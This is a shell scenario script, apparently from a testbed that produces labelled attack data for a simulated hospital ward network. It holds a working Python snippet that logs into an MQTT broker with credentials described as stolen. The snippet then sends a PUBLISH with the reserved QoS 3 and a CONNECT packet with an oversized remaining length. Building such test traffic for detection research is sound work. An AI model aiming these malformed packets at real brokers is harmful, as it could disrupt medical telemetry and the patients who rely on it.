# Malformed MQTT: after a valid CONNECT (stolen credentials), a PUBLISH with QoS 3 (reserved,
# MQTT 3.1.1 §3.3.1.2), then a packet whose remaining length runs past its end.
DEFAULT_DURATION=30
attack_mqtt_malformed() {
  local t0 t1
  t0=$(now)
  run_in attacker mqtt-malformed 10 python3 -c '
import socket, struct, sys, time
def s(x): return struct.pack("!H", len(x)) + x
user, pw = sys.argv[1].encode(), sys.argv[2].encode()
body = s(b"MQTT") + bytes([4, 0xC2]) + struct.pack("!H", 30) + s(b"probe-m") + s(user) + s(pw)
c = socket.create_connection(("10.10.3.2", 1883), timeout=3)
c.sendall(b"\x10" + bytes([len(body)]) + body)
print("connack", c.recv(4).hex())
pub = s(b"ward/icu/cogmon/COGMON-0031/telemetry") + struct.pack("!H", 7) + b"{}"
c.sendall(bytes([0x36, len(pub)]) + pub)  # PUBLISH, QoS 3
time.sleep(0.5)
c.close()
c = socket.create_connection(("10.10.3.2", 1883), timeout=3)
c.sendall(b"\x10\xff\xff\xff\x7f" + b"MQTT")  # CONNECT claiming 268435455 bytes
time.sleep(0.5)
c.close()
' "$MQTT_USER" "$MQTT_PASSWORD"
  t1=$(now)
  label mqtt_malformed T0814 attacker broker "$t0" "$t1" \
    "an MQTT PUBLISH with QoS 3 and a CONNECT whose remaining length exceeds the packet"
}
scenario_run() {
  start_ward "$1"
  sleep 6
  attack_mqtt_malformed
}
